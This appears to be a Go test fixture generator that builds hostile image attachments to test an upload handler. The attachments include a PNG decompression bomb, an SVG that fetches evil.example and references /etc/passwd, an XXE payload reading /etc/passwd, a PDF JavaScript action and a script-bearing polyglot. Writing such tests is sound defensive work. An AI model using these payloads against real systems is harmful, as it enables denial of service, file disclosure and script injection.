package main

import (
	"bytes"
	"compress/zlib"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"io"
)

// hostileFiles are files that no person would send in good faith, by what is wrong with them: how they are called, and what
// they hold.
var hostileFiles = map[string]func() (name string, data []byte){
	"bomb":      func() (string, []byte) { return "bomb.png", pngBomb(30_000, 30_000) },
	"film":      func() (string, []byte) { return "film.gif", longGIF(10_000) },
	"truncated": func() (string, []byte) { data := jpegOf(ring()); return "half.jpg", data[:len(data)/3] },
	"empty":     func() (string, []byte) { return "empty.png", nil },
	"script": func() (string, []byte) {
		return "logo.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://evil.example")</script><image href="file:///etc/passwd"/></svg>`)
	},
	"entities": func() (string, []byte) {
		return "logo.png", []byte(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&a;</text></svg>`)
	},
	"document": func() (string, []byte) {
		return "picture.jpg", []byte("%PDF-1.7\n1 0 obj << /OpenAction << /S /JavaScript >> >> endobj\n%%EOF\n")
	},
	"misnamed": func() (string, []byte) { return "photo.jpg", pngOf(scan()) },
	"polyglot": func() (string, []byte) {
		return "two.gif", append(pngOf(scan()), "GIF89a<script>alert(1)</script>PK\x03\x04%PDF-1.7"...)
	},
	"lying": func() (string, []byte) { return "small.png", pngBomb(1, 1) },
}

// hostile puts one of them beside the next message.
func (s *story) hostile(args []string) error {
	file, ok := hostileFiles[args[0]]
	if !ok {
		return fmt.Errorf("there is no %q", args[0])
	}
	name, data := file()
	s.files = append(s.files, handed{Name: name, ContentType: "image/png", Base64: base64.StdEncoding.EncodeToString(data), Attached: true})
	return nil
}

// pngBomb is a few kilobytes that say that they are a picture of a size, in shades of grey, and unpack to a hundred million
// bytes of nothing.
func pngBomb(w, h uint32) []byte {
	var b bytes.Buffer
	b.WriteString("\x89PNG\r\n\x1a\n")
	chunk := func(kind string, body []byte) {
		_ = binary.Write(&b, binary.BigEndian, uint32(len(body)))
		whole := append([]byte(kind), body...)
		b.Write(whole)
		_ = binary.Write(&b, binary.BigEndian, crc32.ChecksumIEEE(whole))
	}
	head := binary.BigEndian.AppendUint32(nil, w)
	head = binary.BigEndian.AppendUint32(head, h)
	chunk("IHDR", append(head, 1, 0, 0, 0, 0))
	var packed bytes.Buffer
	z := zlib.NewWriter(&packed)
	_, _ = io.CopyN(z, zeros{}, 100_000_000)
	_ = z.Close()
	chunk("IDAT", packed.Bytes())
	chunk("IEND", nil)
	return b.Bytes()
}

type zeros struct{}

func (zeros) Read(p []byte) (int, error) {
	clear(p)
	return len(p), nil
}

// longGIF has so many frames of one pixel.
func longGIF(frames int) []byte {
	b := []byte("GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff")
	for range frames {
		b = append(b, "\x21\xf9\x04\x00\x01\x00\x00\x00\x2c\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02\x44\x01\x00"...)
	}
	return append(b, ';')
}
